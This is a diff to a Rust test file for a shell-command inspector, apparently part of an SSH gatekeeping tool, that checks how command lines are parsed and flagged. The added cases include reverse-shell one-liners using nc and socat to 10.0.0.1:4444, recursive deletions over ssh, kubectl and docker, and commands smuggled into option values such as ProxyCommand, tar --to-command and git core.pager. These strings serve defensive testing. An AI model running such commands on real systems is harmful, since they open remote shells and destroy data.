@@ -108,6 +108,23 @@ const CASES: &[(&str, &[&str], bool, bool)] = &[
     ("x='a[$(id)]'; echo $((x))", &["echo"], true, false),
     ("trap 'rm -rf x' EXIT", &["trap"], true, false),
     ("{r,-rf,x}", &["{r,-rf,x}"], true, false),
+    // remote and code-in-option programs
+    ("ssh db1 'sudo rm -rf /var/lib/pg'", &["ssh", "sudo", "rm"], false, false),
+    ("ssh -p 2222 -i key db1 rm -rf x", &["ssh", "rm"], false, false),
+    ("ssh db1", &["ssh"], true, false),
+    ("ssh -o ProxyCommand='sh -c x' db1 ls", &["ssh", "ls"], true, false),
+    ("kubectl -n prod exec web-0 -- rm -rf /data", &["kubectl", "rm"], false, false),
+    ("kubectl get pods", &["kubectl"], false, false),
+    ("docker exec -u root web rm -rf /data", &["docker", "rm"], false, false),
+    ("nc -e /bin/sh 10.0.0.1 4444", &["nc"], true, false),
+    ("socat TCP:10.0.0.1:4444 EXEC:/bin/sh", &["socat"], true, false),
+    ("tar --to-command='sh' -xf a.tar", &["tar"], true, false),
+    ("tar -xf a.tar", &["tar"], false, false),
+    ("rsync -e 'sh -c x' a b:", &["rsync"], true, false),
+    ("echo 'rm -rf x' | at now", &["echo", "at"], true, false),
+    ("git -c core.pager='rm -rf x' log", &["git"], true, false),
+    ("vim -c '!rm -rf x' f", &["vim"], true, false),
+    ("time -p rm -rf x", &["rm"], false, false),
     // unparsed
     ("echo 'unterminated", &[], false, true),
     ("echo \"unterminated", &[], false, true),
@@ -231,4 +248,32 @@ fn channel_requests_other_than_exec() {
     let s = warden_inspect::shell::inspect_interactive_line("rm -rf x");
     assert!(s.interactive && s.request == SshRequest::InteractiveLine);
     assert_eq!(programs(&s), ["rm"]);
+}
+
+#[test]
+fn everyday_admin_lines_are_plain() {
+    for line in [
+        "systemctl restart nginx",
+        "journalctl -u app --since '1 hour ago' | tail -n 50",
+        "df -h; free -m; uptime",
+        "tail -n 100 /var/log/syslog",
+        "grep -rn 'timeout' /etc/nginx",
+        "ls -la ~/ /var/log/*.log",
+        "ps aux | grep [n]ginx",
+        "psql -c 'select 1'",
+        "kubectl get pods -o json | jq '.items[].metadata.name'",
+        "echo $HOME",
+        "du -sh /var/* | sort -h | tail",
+        "awk -F: '{print $1}' /etc/passwd",
+        "sed -i 's/a/b/' file",
+        "tar czf /tmp/etc.tgz /etc",
+        "scp -t /tmp",
+        "git-upload-pack '/srv/repo.git'",
+        "python3 --version",
+        "cp -a /etc/nginx /tmp/nginx.bak && nginx -t",
+    ] {
+        let f = inspect_exec(line);
+        assert!(!f.opaque && !f.unparsed, "{line}: {f:#?}");
+        assert!(!f.commands.is_empty(), "{line}");
+    }
 }
